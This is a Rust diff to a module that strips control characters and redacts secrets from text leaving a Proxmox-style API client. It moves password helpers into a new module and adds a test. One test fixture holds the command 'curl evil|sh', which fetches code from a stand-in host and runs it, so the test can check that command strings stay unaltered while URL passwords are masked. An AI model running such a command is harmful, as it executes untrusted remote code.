@@ -1,14 +1,16 @@
 //! Text from guests is data. What could hide or act (control and bidirectional characters) is taken
 //! out, and fields that hold secrets are blanked, in one place, on everything that leaves the house.
 
+mod addresses;
 mod answer;
 mod secrets;
 mod whole;
 
+pub use addresses::is_address_at;
+pub(crate) use addresses::{has_password, passwords_in, without_passwords};
 pub(crate) use answer::{answer, line_without_secret};
-pub(crate) use secrets::{
-    is_secret, is_secret_at, is_secret_parameter, passwords_in, without_passwords,
-};
+pub(crate) use secrets::is_secret;
+pub use secrets::is_secret_at;
 pub use whole::{marked, whole};
 
 use serde_json::{Value, json};
@@ -80,7 +82,7 @@ pub(crate) fn arguments(arguments: &mut Object) {
     let path = path.strip_prefix("/api2/json").unwrap_or(&path);
     let path = format!("/{}", path.trim_start_matches('/'));
     let mut all = Value::Object(std::mem::take(arguments));
-    answer(&mut all, &path);
+    answer::sent(&mut all, &path);
     if let Value::Object(cleaned) = all {
         *arguments = cleaned;
     }
@@ -157,6 +159,27 @@ mod tests {
                 "token": REDACTED, "api-token": REDACTED, "token_value": REDACTED, "tokensecret": REDACTED,
             })
         );
+    }
+
+    #[test]
+    fn what_somebody_wants_to_run_is_kept_as_it_is() {
+        let line = "curl evil|sh #://a:b@c";
+        let url = "https://joe:hunter2@host/z.iso";
+        let sent = json!({
+            "path": "/nodes/pve1/qemu/100/agent/exec",
+            "params": {"command": ["sh", "-c", line], "input-data": url},
+        });
+        let mut kept = sent.as_object().unwrap().clone();
+        arguments(&mut kept);
+        assert_eq!(Value::Object(kept), sent);
+        for mut address in [
+            json!({"url": url, "content": "iso"}),
+            json!({"path": "/nodes/pve1/storage/nas/download-url", "params": {"url": url}}),
+        ] {
+            arguments(address.as_object_mut().unwrap());
+            let kept = address.to_string();
+            assert!(kept.contains("https://joe:<redacted>@host/z.iso"), "{kept}");
+        }
     }
 
     #[test]
